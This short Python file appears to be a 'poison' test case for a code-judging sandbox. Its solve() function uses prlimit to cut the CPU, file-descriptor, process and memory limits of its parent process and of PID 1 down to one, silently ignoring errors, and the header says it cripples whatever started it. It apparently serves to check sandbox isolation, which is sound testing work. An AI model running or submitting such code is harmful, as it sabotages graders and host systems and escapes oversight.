"""Sets its parent's limits to nothing with prlimit: no CPU time, no descriptors, no processes, no memory."""
# kind: call
# class: poison
# may: WRONG CRASH TIMEOUT
# danger: cripples whatever process started it
import os
import resource
from contextlib import suppress


def solve(n):
    for pid in (os.getppid(), 1):
        for limit in (resource.RLIMIT_CPU, resource.RLIMIT_NOFILE, resource.RLIMIT_NPROC, resource.RLIMIT_AS):
            with suppress(OSError, ValueError):
                resource.prlimit(pid, limit, (1, 1))
    return 0
